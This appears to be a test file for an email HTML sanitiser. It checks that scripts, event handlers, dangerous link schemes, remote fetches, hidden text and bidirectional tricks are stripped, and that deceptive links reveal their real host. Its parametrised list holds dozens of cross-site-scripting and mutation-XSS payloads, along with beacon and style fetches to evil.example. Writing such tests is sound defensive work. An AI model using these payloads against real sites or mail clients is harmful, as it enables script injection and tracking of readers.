"""What may be seen of a mail's HTML, and that nothing in it acts, fetches, hides or takes long."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from onward.mail.cleaning import MAX_HTML, clean

ALLOWED = {"href", "target", "rel", "colspan", "rowspan", "start", "class"}
FORBIDDEN_TAGS = {
    "script", "style", "svg", "math", "img", "iframe", "object", "embed", "form", "input", "button", "base",
    "meta", "link", "video", "audio", "source", "picture", "frame", "frameset", "template",
    "noscript", "textarea",
}  # fmt: skip


class Seen(HTMLParser):
    """Every tag and attribute, as a parser that is not ours sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def is_harmless(html: str) -> None:
    """Nothing but the tags and attributes that are allowed, and links to the web or a mailbox."""
    seen = Seen()
    seen.feed(html)
    assert not seen.tags & FORBIDDEN_TAGS
    for name, value in seen.attributes:
        assert name in ALLOWED
        if name == "href":
            assert re.match(r"https?://[a-z0-9]|mailto:", value), value
        if name == "class":
            assert value in {"leads", "picture"}


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        '<p onclick="alert(1)" onmouseover=alert(2) ONLOAD=alert(3)>hello</p>',
        '<img src=x onerror="alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        '<a href=" \x01 javascript:alert(1)">x</a>',
        '<a href="java\u200bscript:alert(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<a href="file:///etc/passwd">x</a>',
        '<a href="/settings/erase/">x</a>',
        '<a href="//evil.example/">x</a>',
        '<a href="?do=erase">x</a>',
        '<a href="blob:https://evil.example/1">x</a>',
        '<svg onload="alert(1)"><a xlink:href="javascript:alert(2)"><text>x</text></a></svg>',
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x&gt;">',
        '<math href="javascript:alert(1)"><mi>x</mi></math>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<base href="https://evil.example/">',
        '<form action="https://evil.example/"><input><button formaction="javascript:alert(1)">go</form>',
        '<div style="background:url(https://evil.example/t.gif)">x</div>',
        '<div style="width:expression(alert(1))">x</div>',
        "<style>@import url(https://evil.example/x.css); body{display:none}</style>",
        '<link rel=stylesheet href="https://evil.example/x.css">',
        '<img srcset="https://evil.example/a.png 1x" alt="a">',
        '<picture><source srcset="https://evil.example/a.png"><img alt=b></picture>',
        '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video>',
        '<table background="https://evil.example/t.gif"><tr><td background="x">x</td></tr></table>',
        '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
        '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
        "<template><script>alert(1)</script></template>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
        '<img alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">',
        '<a href="https://evil.example/&quot;onclick=&quot;alert(1)">x</a>',
        "<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><script>alert(1)</script> -->",
        "<plaintext><script>alert(1)</script>",
        "<xmp><script>alert(1)</script></xmp>",
        '<td colspan="99999999" rowspan="-1">x</td>',
        "<p class=leads id=content name=problems>x</p>" * 2,
    ],
)
def test_nothing_acts_or_fetches(hostile: str) -> None:
    found = clean(f"<p>before</p>{hostile}<p>after</p>")
    assert found is not None
    is_harmless(found.html)
    assert "before" in found.html
    assert "url(" not in found.html
    assert "@import" not in found.html


def test_classes_of_the_sender_are_gone() -> None:
    found = clean('<p class="leads">(good.example)</p>')
    assert found is not None
    assert "class" not in found.html


@given(
    st.lists(
        st.sampled_from(
            ["<", ">", '"', "'", "=", " ", "/", "a", "img", "svg", "math", "style", "table", "td", "p",
             "href", "onerror", "javascript:",
             "&#106;", "&quot;", "&lt;", "<!--", "-->", "\x00", "\u202e", "mglyph",
             "title", "alt", "x", "noscript", "https://e.example/", "display:none", "hidden", "]]>",
             "<![CDATA["]
        ),
        max_size=40,
    )
)  # fmt: skip
@settings(max_examples=300, deadline=None)
def test_whatever_is_put_together_is_harmless(parts: list[str]) -> None:
    found = clean("".join(parts), ["a x", "p"])
    assert found is not None
    is_harmless(found.html)
    assert "\u202e" not in found.html


@pytest.mark.parametrize(
    "huge",
    [
        "<div>" * 100_000 + "x",
        "<b><i><font>" * 30_000 + "x",
        "<table>" * 50_000,
        "<p " + "a=1 " * 100_000 + ">x",
        "<a href=https://a.example/>" * 20_000,
        "<" * 500_000,
        "&lt;" * 140_000,
        '<img alt="' + "x" * 500_000 + '">',
        "x" * (MAX_HTML + 1),
        "<p>word</p>" * 50_000,
    ],
)
def test_what_is_huge_comes_back(huge: str) -> None:
    clean(huge, ["word word word", "x" * 5000])
    # Not timed: a machine under load is no fault. What grows without bound would not come back from this.


def test_too_tangled_is_not_parsed_at_all() -> None:
    assert clean("<div>" * 5000 + "hello") is None
    assert clean("x" * (MAX_HTML + 1)) is None


def test_pictures_are_left_out_and_counted() -> None:
    found = clean(
        '<img src="https://t.example/p.gif"><img src="cid:1" alt="Our team"><img src="data:image/png;,">'
    )
    assert found is not None
    assert found.pictures == 3
    assert found.html == '<span class="picture">Our team</span>'


def test_a_link_shows_where_it_really_leads() -> None:
    found = clean('<a href="https://nordlicht.example@evil.example/a?b=1&amp;c=2">nordlicht.example</a>')
    assert found is not None
    assert 'href="https://evil.example/a?b=1&amp;c=2"' in found.html
    assert 'rel="noopener noreferrer nofollow"' in found.html
    assert 'nordlicht.example</a> <span class="leads">(evil.example)</span>' in found.html


def test_what_the_sender_hides_is_not_shown() -> None:
    found = clean('<div style="display: none">secret</div><span hidden>more</span><p>Dear Mira</p>')
    assert found is not None
    assert found.html.strip() == "<p>Dear Mira</p>"


def test_direction_marks_and_characters_without_width_are_gone() -> None:
    found = clean("<p>gro.\u202eelpmaxe\u202c pay\u200bpal &#8238;x &zwnj;</p>")
    assert found is not None
    assert found.html == "<p>gro.elpmaxe paypal x </p>"


def test_evidence_is_marked_across_tags_and_lines() -> None:
    source = "<p>Dear Mira, we have\n <b>decided</b> not to go on.</p><p>Best</p>"
    found = clean(source, ["we have decided not to go on."])
    assert found is not None
    assert found.html == (
        "<p>Dear Mira, <mark>we have\n </mark><b><mark>decided</mark></b>"
        "<mark> not to go on.</mark></p><p>Best</p>"
    )


def test_evidence_is_text_and_never_markup() -> None:
    found = clean("<p>a &lt;b&gt; &amp; c</p>", ["a <b> & c"])
    assert found is not None
    assert found.html == "<p><mark>a &lt;b&gt; &amp; c</mark></p>"
